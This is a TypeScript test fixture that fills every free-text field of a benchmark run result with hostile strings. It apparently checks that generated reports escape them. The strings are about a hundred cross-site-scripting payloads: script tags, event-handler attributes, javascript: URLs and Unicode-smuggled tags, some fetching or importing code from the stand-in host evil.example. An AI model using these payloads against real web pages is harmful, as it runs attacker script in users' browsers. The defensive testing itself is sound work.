import { type RunResult, runResultSchema } from '../../src/metrics/result/run-result.ts'
import { runResult } from '../fixtures/run-result.ts'

const scripts = ['hit=1', 'alert(1)', 'fetch("//evil.example")', 'import("//evil.example/x.js")']

const shapes: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `</script><script>${script}</script>`,
  (script) => `</style><script>${script}</script>`,
  (script) => `</title><script>${script}</script>`,
  (script) => `<!--<script>${script}</script>`,
  (script) => `--><svg onload=${script}>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `"><img src=x onerror='${script}'>`,
  (script) => `' autofocus onfocus=${script} x='`,
  (script) => `" tabindex=1 onmouseover="${script}`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<math><mtext></p><script>${script}</script>`,
  (script) => `<link rel=stylesheet href="//evil.example/${script}">`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `\${${script}}\`;${script};//`,
  (script) => `\u2028${script}\u2029<\u0000script>${script}`,
  (script) => `<base href="//evil.example/"><script src="${script}"></script>`,
  (script) => `<object data="javascript:${script}"></object><embed src="javascript:${script}">`,
  (script) => `</pre></code></table></svg><form action="javascript:${script}"><button autofocus>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s></svg>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `<style>@import '//evil.example/${script}';</style>`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;&#x3c;script>${script}`,
  (script) => `\u202E<\uFEFFscript>${script}</script>\uFF1Cscript\uFF1E${script}`,
]

/** What somebody may call a room or write into a close reason, hoping that a report runs it. */
export const hostileStrings: readonly string[] = shapes.flatMap((shape) => scripts.map(shape))

/** A run with the given texts in every place that takes free text, and as every name that is free. */
export function runWithTexts(texts: readonly string[]): RunResult {
  return everyTextReplaced(runWithNames(texts), texts)
}

/**
 * Each text of the run replaced by one of these, in turn, unless the schema then refuses the run: new keys of the schema
 * are so covered when they come.
 */
function everyTextReplaced(run: RunResult, texts: readonly string[]): RunResult {
  const copy = structuredClone(run)
  let next = 0
  const visit = (part: Record<string, unknown>): void => {
    for (const [key, value] of Object.entries(part)) {
      // The histograms are drawn, not shown.
      if (key === 'hdr') continue
      if (typeof value === 'object' && value !== null) visit(value as Record<string, unknown>)
      // What runWithNames has put there is one of the texts already.
      if (typeof value !== 'string' || texts.includes(value)) continue
      part[key] = texts[next++ % texts.length]
      if (!runResultSchema.safeParse(copy).success) part[key] = value
    }
  }
  visit(copy)
  return copy
}

function runWithNames(texts: readonly string[]): RunResult {
  const run = runResult()
  const text = (index: number) => texts[index % texts.length] ?? ''
  const named = <Value>(value: Value) => Object.fromEntries(texts.map((name) => [name, value]))
  return runResult({
    runId: text(0),
    scenario: text(1),
    command: text(2),
    options: Object.fromEntries(texts.map((name, index) => [name, text(index + 1)])),
    target: { ...run.target, kind: 'aws', url: text(3), stack: text(4), protocol: text(5), definitionHash: text(6) },
    harness: { ...run.harness, node: text(7), commit: text(8), host: { ...run.harness.host, cpuModel: text(9) } },
    validity: {
      verdict: 'shared-cores',
      reasons: [...texts],
      limits: texts.map((name, index) => ({
        name,
        note: text(index + 1),
        observed: 1,
        bound: 'at most',
        limit: 0,
        unit: 'count',
        verdict: 'broken',
      })),
    },
    verdict: {
      exitCode: 10,
      reasons: [...texts],
      checks: texts.map((name) => ({ name, observed: name, limit: name, unit: name, verdict: 'fail' })),
    },
    phases: texts.map((name, second) => ({ name, startSecond: second, endSecond: second + 1 })),
    series: run.series.map((row, index) => ({ ...row, phase: text(index) })),
    metrics: {
      ...run.metrics,
      ...named(run.metrics['ack_latency'] ?? run.metrics['publish_delay']),
    } as RunResult['metrics'],
    counters: { ...run.counters, ...named(1) },
    classes: { connections_closed: named(1), ...named({ other: 1 }) },
    balance: texts.map((name) => ({ name, left: 1, right: 1, residue: 0 })),
    server: {
      ...run.server,
      reasons: [...texts],
      windowStart: text(10),
      functions: Object.fromEntries(
        Object.values(run.server.functions).map((figures, index) => [
          text(index),
          { ...figures, physicalName: text(index + 1) },
        ]),
      ),
    },
    hints: texts.map((text) => ({
      name: 'binary-frames',
      sentence: text,
      sample: { kind: 'text', bytes: 1, text },
    })),
    processes: texts.map((name) => ({ name, side: 'target', processes: 1, cpuSeconds: 1, peakRssBytes: 1 })),
  })
}
